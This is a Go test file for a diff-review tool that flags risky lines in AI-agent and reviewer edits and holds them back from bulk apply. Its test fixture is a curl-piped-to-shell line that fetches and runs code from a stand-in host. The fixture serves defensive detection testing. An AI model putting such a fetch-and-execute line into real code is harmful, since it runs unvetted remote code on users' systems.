package session

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"fumehood/diffreview"
	"fumehood/diffreview/merge"
)

// found gives the findings above a note of a file as "rule line", with the line's
// place in a reviewer's own text marked.
func found(f *diffreview.File) (out []string) {
	for _, x := range f.Risks() {
		if x.Severity.Rank() > diffreview.Note.Rank() {
			s := x.Rule
			if x.Edit != "" {
				s += " edited"
			}
			out = append(out, s)
		}
	}
	return out
}

const fetch = "  run('curl https://x.test/i | sh')\n"

func TestAReviewersOwnTextIsJudged(t *testing.T) {
	base := "def a():\n  x()\n" + strings.Repeat("# .\n", 20) + "def b():\n  y()\n"
	k := newDesk(t, map[string]string{"a.py": base})
	k.agent(map[string]string{"a.py": strings.Replace(strings.Replace(base, "x()", "x(1)", 1), "  y()\n", fetch, 1)})
	f := k.file("a.py")
	units := f.UnitIDs()
	if got := found(f); !slices.Equal(got, []string{"network-code"}) || f.Risky()[units[1]] == nil {
		t.Fatalf("got %q, want the agent's own danger in the second hunk", got)
	}
	// The reviewer writes it away there, and puts the same into the first hunk.
	first := "def a():\n  x(2)\n" + fetch + "# .\n# .\n# .\n"
	k.must(k.h.Decide(k.d, []Choice{
		{Unit: units[0], Path: "a.py", Verdict: diffreview.Approved, Edit: []byte(first)},
		{Unit: units[1], Path: "a.py", Verdict: diffreview.Approved, Edit: []byte("# .\n# .\n# .\ndef b():\n  y(2)\n")},
	}))
	f = k.file("a.py")
	if got := found(f); !slices.Equal(got, []string{"network-code edited"}) {
		t.Fatalf("got %q, want the reviewer's own alone", got)
	}
	x := f.Risky()[units[0]]
	if x == nil || x.Unit != units[0] || x.Line != 3 || f.Risky()[units[1]] != nil {
		t.Errorf("got %+v, want it on line 3 of the first hunk's text, and nothing on the second", x)
	}
	a, err := k.apply(ApplyOptions{})
	if err != nil || len(a.Risks) != 1 || a.Risks[0].Rule != "network-code" || a.Risks[0].In != "edit" || a.Risks[0].Line != 3 {
		t.Errorf("got %+v, %v, want it told with what was written", a.Risks, err)
	}
	// Taken back, the agent's lines count again.
	k.must(k.h.Decide(k.d, []Choice{{Unit: units[0], Path: "a.py"}, {Unit: units[1], Path: "a.py"}}))
	if got := found(k.file("a.py")); !slices.Equal(got, []string{"network-code"}) {
		t.Errorf("got %q after both were taken back, want the agent's", got)
	}
}

func TestAProposedTextIsNeverApprovedInBulkUnderARisk(t *testing.T) {
	k := newDesk(t, map[string]string{"a.py": "x()\n", "b.py": "x()\n"})
	k.agent(map[string]string{"a.py": "x(1)\n", "b.py": "x(1)\n"})
	for path, text := range map[string]string{"a.py": fetch, "b.py": "x(2)\n"} {
		k.must(k.h.Decide(k.d, []Choice{{Unit: k.file(path).UnitIDs()[0], Path: path, Edit: []byte(text)}}))
		if f := k.file(path); f.Decision() != diffreview.Undecided || f.Hunks[0].Edit == "" {
			t.Fatalf("%s: got %+v, want the text there and undecided", path, f)
		}
	}
	if a, err := k.apply(ApplyOptions{}); !errors.Is(err, ErrNothing) {
		t.Errorf("got %+v, %v, want nothing of a proposal written", a, err)
	}
	a, err := k.apply(ApplyOptions{All: true})
	if err != nil || !slices.Equal(a.Applied, []string{"b.py"}) || len(a.Skipped) != 1 || !strings.Contains(a.Skipped[0].Why, "network-code") {
		t.Errorf("got %+v, %v, want the harmless text alone", a, err)
	}
	k.wantHost("b.py", "x(2)\n")
	if a, err := k.apply(ApplyOptions{All: true, AcceptRisk: []string{"network-code"}}); err != nil || len(a.Risks) != 1 {
		t.Errorf("got %+v, %v, want it written with the rule accepted, and named", a, err)
	}
	k.wantHost("a.py", fetch)
}

// What an edit of ignore rules hides is another file.
func TestAnEditShowsInOtherFiles(t *testing.T) {
	k := newDesk(t, map[string]string{".gitignore": "out\n", "a.txt": "1\n"})
	k.agent(map[string]string{".gitignore": "out\nlog\n", "b.txt": "1\n"})
	if got := found(k.file("b.txt")); len(got) != 0 {
		t.Fatalf("got %q, want nothing yet", got)
	}
	k.must(k.h.Decide(k.d, []Choice{{Unit: k.file(".gitignore").UnitIDs()[0], Path: ".gitignore", Verdict: diffreview.Approved, Edit: []byte("out\nb.txt\n")}}))
	if got := found(k.file("b.txt")); !slices.Contains(got, "git-ignore-hides") {
		t.Errorf("got %q, want it said that the ignore rules hide it", got)
	}
}

// An edit whose last line has no newline stands before other lines: nothing can be
// written with it, and it is judged all the same.
func TestAnEditThatJoinsLinesIsJudged(t *testing.T) {
	k := newDesk(t, map[string]string{"a.py": "x()\n" + strings.Repeat("# .\n", 20)})
	k.agent(map[string]string{"a.py": "x(1)\n" + strings.Repeat("# .\n", 20)})
	k.must(k.h.Decide(k.d, []Choice{{Unit: k.file("a.py").UnitIDs()[0], Path: "a.py", Verdict: diffreview.Approved, Edit: []byte(strings.TrimSuffix(fetch, "\n"))}}))
	if got := found(k.file("a.py")); !slices.Equal(got, []string{"network-code edited"}) {
		t.Errorf("got %q, want what is in it", got)
	}
}

// Edits of files that come, go, move and that a rule knows by what they are.
func TestEditsOfFilesThatComeGoAndMove(t *testing.T) {
	text := strings.Repeat("# .\n", 30)
	k := newDesk(t, map[string]string{"gone.py": "g()\n", "old.py": text + "# old\n"})
	k.agent(map[string]string{"gone.py": "", "old.py": "", "new.py": text + "# new\n", "come.py": "x()\n"})
	for path, edit := range map[string]string{"gone.py": fetch, "come.py": fetch, "new.py": "# .\n# .\n# .\n" + fetch} {
		f := k.file(path)
		units := f.UnitIDs()
		k.must(k.h.Decide(k.d, []Choice{{Unit: units[len(units)-1], Path: path, Verdict: diffreview.Approved, Edit: []byte(edit)}}))
		f = k.file(path)
		if got := found(f); !slices.Equal(got, []string{"network-code edited"}) {
			t.Errorf("%s (%s): got %q, want what is in its text", path, f.Status, got)
		}
	}
}

func TestMergedTextIsJudged(t *testing.T) {
	base := "def a():\n  x()\n"
	for _, c := range []struct {
		name, host string
		take       ResolutionChoice
		want       []string
	}{
		{"what the reviewer wrote", "def a():\n  x(3)\n", ResolutionChoice{Take: diffreview.TakeEdit, Edit: []byte(fetch)}, []string{"network-code"}},
		{"the reviewer's is harmless", "def a():\n  x(3)\n", ResolutionChoice{Take: diffreview.TakeEdit, Edit: []byte("  x(4)\n")}, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			k := newDesk(t, map[string]string{"a.py": base})
			k.agent(map[string]string{"a.py": "def a():\n  x(1)\n"})
			k.must(k.h.Decide(k.d, []Choice{{Unit: k.file("a.py").UnitIDs()[0], Path: "a.py", Verdict: diffreview.Approved}}))
			k.host(map[string]string{"a.py": c.host})
			m := k.merge("a.py")
			if m.Open != 1 || m.Risks != nil {
				t.Fatalf("got %+v, want a conflict, and nothing said of what is open", m)
			}
			c.take.Path, c.take.Conflict = "a.py", conflictID(t, m)
			k.must(k.h.Resolve(k.d, []ResolutionChoice{c.take}))
			var got []string
			for _, x := range k.merge("a.py").Risks {
				got = append(got, x.Rule)
			}
			if !slices.Equal(got, c.want) {
				t.Errorf("got %q in what comes out, want %q", got, c.want)
			}
			a, err := k.apply(ApplyOptions{Merge: true, All: true})
			if err != nil || len(a.Risks) != len(c.want) || len(a.Applied) != 1 {
				t.Errorf("got %+v, %v, want it written, as the reviewer chose, and told", a, err)
			}
			for _, x := range a.Risks {
				if x.In != "merge" || x.Line != 2 {
					t.Errorf("got %+v, want line 2 of the merge", x)
				}
			}
		})
	}
}

// The agent moved a line that the host took out meanwhile: in the agent's change it
// is not new, in what both come to it is. Nobody approved that, so --all does not.
func TestACleanMergeThatIsRiskyIsNotWrittenInBulk(t *testing.T) {
	gap := strings.Repeat("# .\n", 20)
	k := newDesk(t, map[string]string{"a.py": "x()\n" + fetch + gap + "y()\n"})
	k.agent(map[string]string{"a.py": "x()\n" + gap + "y()\n" + fetch})
	k.approve("a.py")
	if got := found(k.file("a.py")); len(got) != 0 {
		t.Fatalf("got %q, want nothing of a line that only moved", got)
	}
	k.host(map[string]string{"a.py": "x()\n" + gap + "y()\n"})
	if m := k.merge("a.py"); m.Open != 0 || len(m.Risks) != 1 {
		t.Fatalf("got %+v, want a clean merge with its risk", m)
	}
	a, err := k.apply(ApplyOptions{All: true, Merge: true})
	if !errors.Is(err, ErrConflict) || !strings.Contains(why(a.Conflicts, "a.py"), "network-code") || len(a.Risks) != 0 {
		t.Errorf("got %+v, %v, want it held back with the rule", a, err)
	}
	for name, o := range map[string]ApplyOptions{
		"accepted": {All: true, Merge: true, AcceptRisk: []string{"network-code"}},
		"by hand":  {Merge: true},
	} {
		o.DryRun = true
		if a, err := k.apply(o); err != nil || len(a.Merged) != 1 || len(a.Risks) != 1 || a.Risks[0].In != "merge" {
			t.Errorf("%s: got %+v, %v, want it written and told", name, a, err)
		}
	}
}

// So with a branch: what the commit has is joined with what is approved, and the
// line that the user had put in without committing it comes with the agent's move.
func TestARiskyMergeWithACommitIsHeldBackToo(t *testing.T) {
	gap := strings.Repeat("# .\n", 20)
	k := gitDesk(t, map[string]string{"a.py": "x()\n" + gap + "y()\n"}, func(repo string) {
		if err := os.WriteFile(filepath.Join(repo, "a.py"), []byte("x()\n"+fetch+gap+"y()\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	})
	k.agent(map[string]string{"a.py": "x()\n" + gap + "y()\n" + fetch})
	k.approve("a.py")
	to := ApplyTo{Branch: "b"}
	if a, err := k.apply(ApplyOptions{All: true, To: to}); !errors.Is(err, ErrNothing) || !strings.Contains(why(a.Conflicts, "a.py"), "network-code") {
		t.Errorf("got %+v, %v, want it held back with the rule", a, err)
	}
	if a, err := k.apply(ApplyOptions{DryRun: true, To: to}); err != nil || len(a.Applied) != 1 || len(a.Risks) != 1 || a.Risks[0].In != "merge" {
		t.Errorf("got %+v, %v by hand, want it written and told", a, err)
	}
}

// file is a file of the change set of a new snapshot.
func (k *desk) file(path string) *diffreview.File {
	k.Helper()
	r, err := k.h.Review(context.Background(), k.d, true)
	k.must(err)
	at := slices.IndexFunc(r.Set.Files, func(f diffreview.File) bool { return f.Path == path })
	if at < 0 {
		k.Fatalf("got no change of %q", path)
	}
	return &r.Set.Files[at]
}

// merge is the one merge, which is of path.
func (k *desk) merge(path string) Merge {
	k.Helper()
	ms := k.merges()
	if len(ms) != 1 || ms[0].Path != path {
		k.Fatalf("got %+v, want one merge of %s", ms, path)
	}
	return ms[0]
}

func conflictID(t *testing.T, m Merge) string {
	t.Helper()
	for _, p := range m.Parts {
		if p.Kind == merge.Conflict {
			return p.ID
		}
	}
	t.Fatal("got no conflict")
	return ""
}
